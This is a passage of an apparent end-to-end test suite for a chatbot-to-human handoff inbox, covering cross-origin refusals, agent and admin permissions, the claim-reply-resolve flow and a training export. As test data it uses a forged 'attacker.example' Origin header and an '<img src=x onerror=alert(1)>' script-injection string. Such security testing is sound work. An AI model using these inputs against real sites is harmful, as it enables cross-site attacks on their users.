        ['a foreign Origin', ana.headers({ origin: 'https://attacker.example' }), 403, /^cross_origin$/],
        ['no Origin', without('origin'), 403, /^cross_origin$/],
        ['a cross-site fetch', ana.headers({ 'sec-fetch-site': 'cross-site' }), 403, /^cross_origin$/],
      ];
      for (const [what, headers, status, code] of refused) {
        const response = await request.post(path, { headers, data });
        expect(response.status(), `${path}: ${what}`).toBe(status);
        expect((await response.json()).error.code, `${path}: ${what}`).toMatch(code);
      }
    }
    // Nothing the refusals sent changed anything.
    expect(queryE2eDatabase('SELECT status, assigneeId FROM Handoff WHERE conversationId = ?', conversationId)).toEqual([{ status: 'waiting', assigneeId: null }]);
    expect(queryE2eDatabase<{ n: number }>('SELECT COUNT(*) AS n FROM AgentMessage WHERE conversationId = ?', conversationId)).toEqual([{ n: 0 }]);

    // Ana claims; Ben may neither claim (409), reply nor resolve (403): it is not his.
    expect((await request.post(mutations[0]![0], { headers: ana.headers(), data: {} })).status()).toBe(200);
    expect((await request.post(mutations[0]![0], { headers: ben.headers(), data: {} })).status()).toBe(409);
    for (const [path, data] of mutations.slice(1)) {
      const response = await request.post(path, { headers: ben.headers(), data });
      expect(response.status(), path).toBe(403);
      expect((await response.json()).error.code, path).toBe('forbidden');
    }
    // The customer's poll takes no session and is not an admin route, but ids and times are checked.
    expect((await request.get(`/api/conversations/${conversationId}/updates?after=yesterday`)).status()).toBe(400);
    expect((await request.get(`/api/conversations/not-an-id/updates`)).status()).toBe(400);
    expect((await request.get(`/api/conversations/${randomUUID()}/updates`)).status()).toBe(404);
  });

  test('agents work the inbox and review; the overview and the exports are an admin’s', async ({ request, playwright, baseURL }) => {
    const agent = await signInThroughApi(playwright.request, baseURL!, await agentAccount(`roles-agent-${RUN}@example.com`));
    const admin = await signInThroughApi(playwright.request, baseURL!, await createAdminAccount(`roles-admin-${RUN}@example.com`));
    const adminOnly = ['/api/admin/overview', '/api/admin/export?format=csv', '/api/admin/export?format=jsonl', '/api/admin/export?format=training'];
    for (const path of adminOnly) {
      const refused = await request.get(path, { headers: agent.headers() });
      expect(refused.status(), path).toBe(403);
      expect((await refused.json()).error.code, path).toBe('forbidden');
      expect((await request.get(path, { headers: admin.headers() })).status(), path).toBe(200);
    }
    for (const path of ['/api/admin/predictions', '/api/admin/queue', '/api/admin/inbox', '/api/admin/inbox/count']) {
      expect((await request.get(path, { headers: agent.headers() })).status(), path).toBe(200);
    }
    // The pages say the same: the overview sends an agent to the inbox, and neither its link nor the exports are offered.
    const overview = await request.get('/admin/overview', { headers: agent.headers(), maxRedirects: 0 });
    expect([303, 307]).toContain(overview.status());
    expect(new URL(overview.headers()['location']!, baseURL).pathname).toBe('/admin/inbox');
    const log = await (await request.get('/admin', { headers: agent.headers() })).text();
    expect(log).toContain('href="/admin/inbox"');
    expect(log).not.toContain('href="/admin/overview"');
    expect(log).not.toContain('data-testid="export-training"');
    const adminLog = await (await request.get('/admin', { headers: admin.headers() })).text();
    expect(adminLog).toContain('href="/admin/overview"');
    expect(adminLog).toContain('data-testid="export-training"');
  });

  test('the whole flow: out of scope, a request for a person, claim, a reply the customer’s poll sees, the customer’s answer, resolve with a label, the training export', async ({ request, playwright, baseURL }) => {
    const conversationId = randomUUID();
    const text = `can you book me a table for two ${RUN}`;
    const first = outOfScope(conversationId, 0, text);
    expect((await request.post('/api/turns', { data: first })).status()).toBe(201);
    const ask = {
      conversationId,
      botId: 'banking77',
      user: { id: randomUUID(), seq: 2, text: 'Talk to a person', parts: { kind: 'handoff-request' } },
      reply: { id: randomUUID(), seq: 3, text: 'I’ve passed this conversation to our support team.', parts: { kind: 'handoff-requested', handoffReason: 'requested' } },
    };
    expect((await request.post('/api/turns', { data: ask })).status()).toBe(201);
    const poll = async (after?: string) => {
      const response = await request.get(`/api/conversations/${conversationId}/updates${after ? `?after=${encodeURIComponent(after)}` : ''}`);
      expect(response.status()).toBe(200);
      return response.json();
    };
    expect(await poll()).toMatchObject({ status: 'waiting', handoff: { reason: 'requested', claimedAt: null, busy: false }, agentMessages: [] });

    const agent = await signInThroughApi(playwright.request, baseURL!, await agentAccount(`handoff-flow-${RUN}@example.com`));
    const inbox = await (await request.get('/api/admin/inbox?status=waiting', { headers: agent.headers() })).json();
    const entry = inbox.rows.find((row: { conversationId: string }) => row.conversationId === conversationId);
    expect(entry).toMatchObject({ reason: 'requested', status: 'waiting', triggerText: text, waitSeconds: expect.any(Number) });
    expect((await (await request.get('/api/admin/inbox/count', { headers: agent.headers() })).json()).waiting).toBeGreaterThanOrEqual(1);
    const detail = await (await request.get(`/api/admin/conversations/${conversationId}`, { headers: agent.headers() })).json();
    expect(detail.handoff).toMatchObject({ reason: 'requested', triggerMessageId: first.user.id, snapshot: { text, intent: first.prediction.intent, topK: first.prediction.topK.slice(0, 5) } });

    expect((await request.post(`/api/admin/conversations/${conversationId}/claim`, { headers: agent.headers(), data: {} })).status()).toBe(200);
    const claimed = await poll();
    expect(claimed).toMatchObject({ status: 'assigned', handoff: { claimedAt: expect.any(String) }, agentMessages: [] });
    const since = new Date().toISOString();
    const sent = await request.post(`/api/admin/conversations/${conversationId}/messages`, { headers: agent.headers(), data: { text: 'Hello, <img src=x onerror=alert(1)> I can help.' } });
    expect(sent.status()).toBe(201);
    const { message } = await sent.json();
    const seen = await poll(since);
    expect(seen.agentMessages).toEqual([{ id: message.id, text: 'Hello, <img src=x onerror=alert(1)> I can help.', createdAt: message.createdAt, author: { displayName: 'Handoff' } }]);
    expect((await poll(message.id)).agentMessages).toEqual([]);

    // The customer answers while the agent holds the conversation: classified, stored once, the reply a delivery note.
    const answer = turnAt(conversationId, 4, `it is about my restaurant card ${RUN}`);
    const withAgent = { ...answer, reply: { ...answer.reply, text: 'Sent to the team.', parts: { kind: 'with-agent' } } };
    expect((await request.post('/api/turns', { data: withAgent })).status()).toBe(201);
    expect((await request.post('/api/turns', { data: withAgent })).status()).toBe(200);
    const transcript = await (await request.get(`/api/admin/conversations/${conversationId}`, { headers: agent.headers() })).json();
    expect(transcript.messages.map((row: { seq: number }) => row.seq)).toEqual([0, 1, 2, 3, 4, 5]);
    expect(transcript.agentMessages.map((row: { text: string }) => row.text)).toEqual(['Hello, <img src=x onerror=alert(1)> I can help.']);
    const restored = await (await request.get(`/api/conversations/${conversationId}`)).json();
    expect(restored).toMatchObject({ status: 'assigned', agentMessages: [{ id: message.id }] });

    const resolved = await request.post(`/api/admin/conversations/${conversationId}/resolve`, { headers: agent.headers(), data: { resolution: 'new_topic', topic: 'Restaurant bookings' } });
    expect(resolved.status()).toBe(200);
    expect(await poll()).toMatchObject({ status: 'bot', handoff: null });
    expect(queryE2eDatabase('SELECT COUNT(*) AS n FROM Message WHERE conversationId = ?', conversationId)).toEqual([{ n: 6 }]);
    expect(queryE2eDatabase('SELECT COUNT(*) AS n FROM Handoff WHERE conversationId = ?', conversationId)).toEqual([{ n: 1 }]);
    const admin = await signInThroughApi(playwright.request, baseURL!, await createAdminAccount(`handoff-admin-${RUN}@example.com`));
    const exported = await (await request.get('/api/admin/export?format=training', { headers: admin.headers() })).text();
    expect(exported.split('\n')).toContain(`${text},new_topic.restaurant_bookings`);
  });
});
